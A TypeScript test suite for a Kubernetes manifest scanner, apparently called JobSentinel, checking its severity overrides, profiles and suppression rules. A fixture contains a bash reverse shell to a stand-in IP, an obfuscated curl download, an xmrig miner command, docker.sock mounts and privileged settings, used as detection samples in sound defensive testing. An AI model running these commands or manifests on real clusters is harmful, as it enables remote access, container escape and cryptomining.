/** Tuning (README.md "Configuration", docs/suppression.md): severity overrides, profiles, ignore entries, the ignore annotation and ignore comments. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseManifest, DEFAULT_CONFIG, INDICATORS, parseConfig, type AnalysisResult, type JobSentinelConfig } from '../src/index.js';

/** A config from `.jobsentinel.yaml` text, failing the test on any config error. */
function config(text: string): JobSentinelConfig {
  const parsed = parseConfig(text, '.jobsentinel.yaml');
  assert.deepEqual(parsed.errors, []);
  return parsed.config;
}

function analyse(text: string, tuning = ''): AnalysisResult {
  return analyseManifest(text, 'job.yaml', { config: tuning === '' ? DEFAULT_CONFIG : config(tuning) });
}

const ids = (result: AnalysisResult): string[] => [...new Set(result.findings.map((finding) => finding.indicator))].sort();

/** Trips every built-in indicator once. */
const EVERYTHING = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: everything
  namespace: prod
spec:
  schedule: "0 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          hostNetwork: true
          hostPID: true
          hostIPC: true
          containers:
            - name: shell
              image: busybox:1.36
              command: ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
              securityContext:
                privileged: true
                allowPrivilegeEscalation: true
                capabilities:
                  add: ["SYS_ADMIN"]
              volumeMounts:
                - {name: sock, mountPath: /var/run/docker.sock}
            - name: hidden
              image: registry.example/app:1
              command: ["/bin/sh", "-c", "/???/???/cur? -s http://203.0.113.7/x; docker ps; xmrig -o stratum+tcp://pool.example.net:3333"]
              volumeMounts:
                - {name: sock, mountPath: /var/run/docker.sock}
          volumes:
            - name: sock
              hostPath:
                path: /var/run/docker.sock
          restartPolicy: Never
`;

/** A Job in namespace `ns` with one container per image, and hostNetwork (a pod-level finding). */
function jobWith(images: string[], namespace: string | null = 'ci'): string {
  return [
    'apiVersion: batch/v1',
    'kind: Job',
    'metadata:',
    '  name: build',
    ...(namespace === null ? [] : [`  namespace: ${namespace}`]),
    'spec:',
    '  template:',
    '    spec:',
    '      hostNetwork: true',
    '      containers:',
    ...images.flatMap((image, index) => [`        - name: c${index}`, `          image: ${image}`]),
    '',
  ].join('\n');
}

describe('severity and profile', () => {
  it('the extended profile (the default) runs every built-in indicator', () => {
    assert.deepEqual(ids(analyse(EVERYTHING)), INDICATORS.map((indicator) => indicator.id).sort());
  });

  it('profile: seed keeps only the six clauses of the original rule', () => {
    assert.deepEqual(ids(analyse(EVERYTHING, 'profile: seed\n')), [
      'attacker-tooling',
      'host-network',
      'host-path-mount',
      'privileged-container',
      'sensitive-mount',
      'shell-escape',
    ]);
  });

  it('a severity override changes every finding of that indicator, and nothing else', () => {
    const before = analyse(EVERYTHING).findings;
    const after = analyse(EVERYTHING, 'severity:\n  host-path-mount: hint\n').findings;
    assert.deepEqual(
      after.filter((finding) => finding.indicator === 'host-path-mount').map((finding) => finding.severity),
      ['hint'],
    );
    const others = (findings: typeof before) => findings.filter((finding) => finding.indicator !== 'host-path-mount');
    assert.deepEqual(others(after), others(before));
  });

  it('severity off switches an indicator off entirely', () => {
    const result = analyse(EVERYTHING, 'severity:\n  privileged-container: off\n  sensitive-mount: off\n');
    assert.ok(!ids(result).includes('privileged-container'));
    assert.ok(!ids(result).includes('sensitive-mount'));
    assert.ok(ids(result).includes('host-path-mount'));
  });

  it('an override raises the severity of an image finding too (information by default)', () => {
    const result = analyse(jobWith(['alpine:3.20']), 'severity:\n  attacker-tooling: error\n');
    assert.deepEqual(
      result.findings.filter((finding) => finding.indicator === 'attacker-tooling').map((finding) => finding.severity),
      ['error'],
    );
  });
});

describe('ignore entries: indicators x images x namespaces, all given conditions must hold', () => {
  const ALPINE_IN_CI = 'ignore:\n  - indicators: [attacker-tooling]\n    images: ["alpine:*", "ubuntu:*"]\n    namespaces: ["ci", "build-*"]\n';

  it('ignores an alpine image in namespace ci', () => {
    assert.deepEqual(ids(analyse(jobWith(['alpine:3.20']), ALPINE_IN_CI)), ['host-network']);
  });

  it('namespace globs match (build-*)', () => {
    assert.deepEqual(ids(analyse(jobWith(['ubuntu:24.04'], 'build-nightly'), ALPINE_IN_CI)), ['host-network']);
  });

  it('does not ignore the same image in another namespace', () => {
    assert.deepEqual(ids(analyse(jobWith(['alpine:3.20'], 'prod'), ALPINE_IN_CI)), ['attacker-tooling', 'host-network']);
  });

  it('does not ignore another image in the same namespace, and a glob is not a substring match', () => {
    assert.deepEqual(ids(analyse(jobWith(['busybox:1.36']), ALPINE_IN_CI)), ['attacker-tooling', 'host-network']);
    assert.deepEqual(ids(analyse(jobWith(['docker.io/library/alpine:3.20']), ALPINE_IN_CI)), ['attacker-tooling', 'host-network']);
  });

  it('a manifest without a namespace is in "default"', () => {
    const tuning = 'ignore:\n  - indicators: [attacker-tooling]\n    namespaces: [default]\n';
    assert.deepEqual(ids(analyse(jobWith(['alpine:3.20'], null), tuning)), ['host-network']);
  });

  it('an entry without indicators covers every indicator in its scope', () => {
    assert.deepEqual(ids(analyse(jobWith(['alpine:3.20']), 'ignore:\n  - namespaces: [ci]\n')), []);
  });

  it('a pod-level finding is ignored only when every container image is covered', () => {
    const tuning = 'ignore:\n  - indicators: [host-network]\n    images: ["registry.example/net-probe:*"]\n';
    assert.deepEqual(ids(analyse(jobWith(['registry.example/net-probe:2']), tuning)), []);
    const withSidecar = analyse(jobWith(['registry.example/net-probe:2', 'registry.example/other:1']), tuning);
    assert.deepEqual(ids(withSidecar), ['host-network']);
  });

  it('an entry with users applies to audit logs only, never to a manifest', () => {
    const tuning = 'ignore:\n  - indicators: [attacker-tooling]\n    users: ["*"]\n';
    assert.deepEqual(ids(analyse(jobWith(['alpine:3.20']), tuning)), ['attacker-tooling', 'host-network']);
  });

  it('a log shipper on hostPath /var/log can be exempted by image', () => {
    const shipper = jobWith(['fluent/fluent-bit:3.0']).replace('      hostNetwork: true\n', '      volumes:\n        - name: logs\n          hostPath: {path: /var/log}\n');
    assert.deepEqual(ids(analyse(shipper)), ['host-path-mount']);
    assert.deepEqual(ids(analyse(shipper, 'ignore:\n  - indicators: [host-path-mount]\n    images: ["fluent/fluent-bit*"]\n')), []);
  });
});

describe('the jobsentinel.io/ignore annotation', () => {
  const annotated = (where: 'object' | 'template', value: string) => {
    const objectAnnotation = where === 'object' ? `\n  annotations:\n    jobsentinel.io/ignore: "${value}"` : '';
    const templateMetadata = where === 'template' ? `        metadata:\n          annotations:\n            jobsentinel.io/ignore: "${value}"\n` : '';
    return `apiVersion: batch/v1
kind: CronJob
metadata:
  name: sync${objectAnnotation}
spec:
  schedule: "@daily"
  jobTemplate:
    spec:
      template:
${templateMetadata}        spec:
          hostNetwork: true
          containers:
            - name: sync
              image: registry.example/sync:1
          volumes:
            - name: data
              hostPath: {path: /srv/data}
`;
  };

  it('on the CronJob suppresses the indicators it names, and only those', () => {
    const result = analyse(annotated('object', 'host-path-mount'));
    assert.deepEqual(result.errors, []);
    assert.deepEqual(ids(result), ['host-network']);
  });

  it('on the pod template does the same, with several ids', () => {
    const result = analyse(annotated('template', 'host-path-mount, host-network'));
    assert.deepEqual(result.errors, []);
    assert.deepEqual(ids(result), []);
  });

  it('"all" suppresses every indicator', () => {
    assert.deepEqual(ids(analyse(annotated('object', 'all'))), []);
  });

  it('an unknown id is an error naming it, at the annotation value, and the known ids still apply', () => {
    const text = annotated('object', 'host-path-mount, hostnetwork');
    const result = analyse(text);
    assert.deepEqual(ids(result), ['host-network']);
    assert.equal(result.errors.length, 1);
    assert.equal(result.errors[0].message, 'unknown indicator "hostnetwork" in the jobsentinel.io/ignore annotation');
    const { start, end } = result.errors[0].range;
    assert.equal(text.split('\n')[start.line - 1].slice(start.column - 1, end.column - 1), 'host-path-mount, hostnetwork');
  });

  it('an unknown id on the pod template is reported there', () => {
    const text = annotated('template', 'privileged');
    const result = analyse(text);
    assert.equal(result.errors.length, 1);
    assert.match(result.errors[0].message, /unknown indicator "privileged"/);
    assert.equal(result.errors[0].range.start.line, 12);
  });

  it('does not reach another document in the same file', () => {
    const two = `${annotated('object', 'all')}---\n${jobWith(['alpine:3.20'])}`;
    const result = analyse(two);
    assert.deepEqual(result.findings.map((finding) => finding.document).sort(), [1, 1]);
  });
});

describe('# jobsentinel-ignore: comments', () => {
  const WITH_LINES = (image: string, comment = '', above = '') =>
    `apiVersion: batch/v1
kind: Job
metadata:
  name: j
spec:
  template:
    spec:
      containers:
        - name: c
${above}          image: ${image}${comment}
          command: ["sh", "-c", "echo ok # jobsentinel-ignore: attacker-tooling"]
`;

  it('on the flagged line suppresses the finding', () => {
    const result = analyse(WITH_LINES('kalilinux/kali-rolling', '  # jobsentinel-ignore: attacker-tooling'));
    assert.deepEqual(result.errors, []);
    assert.deepEqual(ids(result), []);
  });

  it('may give a reason after --, which is not read as ids', () => {
    const result = analyse(WITH_LINES('kalilinux/kali-rolling', '  # jobsentinel-ignore: attacker-tooling, host-network -- pentest lab image, ticket SEC-12'));
    assert.deepEqual(result.errors, []);
    assert.deepEqual(ids(result), []);
  });

  it('on the line above suppresses it too', () => {
    const result = analyse(WITH_LINES('kalilinux/kali-rolling', '', '          # jobsentinel-ignore: attacker-tooling\n'));
    assert.deepEqual(ids(result), []);
  });

  it('two lines above does not', () => {
    const result = analyse(WITH_LINES('kalilinux/kali-rolling', '', '          # jobsentinel-ignore: attacker-tooling\n          imagePullPolicy: Always\n'));
    assert.deepEqual(ids(result), ['attacker-tooling']);
  });

  it('names indicators: another id leaves the finding alone', () => {
    const result = analyse(WITH_LINES('kalilinux/kali-rolling', '  # jobsentinel-ignore: host-network'));
    assert.deepEqual(ids(result), ['attacker-tooling']);
  });

  it('a "# jobsentinel-ignore:" inside a quoted string is data, not a comment', () => {
    // The command on the line below the image carries the text; it must not silence the image finding.
    const text = `apiVersion: batch/v1
kind: Job
metadata: {name: j}
spec:
  template:
    spec:
      containers:
        - name: c
          args: ["# jobsentinel-ignore: attacker-tooling"]
          image: kalilinux/kali-rolling
`;
    assert.deepEqual(ids(analyse(text)), ['attacker-tooling']);
  });

  it('a "# jobsentinel-ignore:" line inside a block scalar script is data, not a comment', () => {
    const text = `apiVersion: batch/v1
kind: Job
metadata: {name: j}
spec:
  template:
    spec:
      containers:
        - name: c
          args:
            - |
              # jobsentinel-ignore: attacker-tooling
          image: kalilinux/kali-rolling
`;
    const result = analyse(text);
    assert.deepEqual(ids(result), ['attacker-tooling']);
    assert.deepEqual(result.errors, []);
  });

  it('an unknown id in a comment is an error naming it, at the id list', () => {
    const text = WITH_LINES('registry.example/app:1', '  # jobsentinel-ignore: attacker-toolin');
    const result = analyse(text);
    assert.equal(result.errors.length, 1);
    assert.equal(result.errors[0].message, 'unknown indicator "attacker-toolin" in a jobsentinel-ignore comment');
    const { start, end } = result.errors[0].range;
    assert.equal(text.split('\n')[start.line - 1].slice(start.column - 1, end.column - 1), 'attacker-toolin');
  });

  it('a comment may name a custom pattern id declared in the config', () => {
    const text = WITH_LINES('registry.example/app:1', '  # jobsentinel-ignore: crypto-miner');
    const result = analyse(text, 'custom:\n  patterns:\n    - {id: crypto-miner, pattern: xmrig}\n');
    assert.deepEqual(result.errors, []);
  });

  it('a comment at the start of a line counts (flow-style manifests put whole specs on one line)', () => {
    const text = 'apiVersion: batch/v1\nkind: Job\nmetadata: {name: j}\n# jobsentinel-ignore: host-network\nspec: {template: {spec: {hostNetwork: true, hostPID: true, containers: [{name: c, image: registry.example/a:1}]}}}\n';
    assert.deepEqual(ids(analyse(text)), ['host-pid']);
  });

  it('a pod-level finding is suppressed by a comment above its key', () => {
    const text = jobWith(['registry.example/app:1']).replace('      hostNetwork: true', '      # jobsentinel-ignore: host-network\n      hostNetwork: true');
    assert.deepEqual(ids(analyse(text)), []);
  });
});
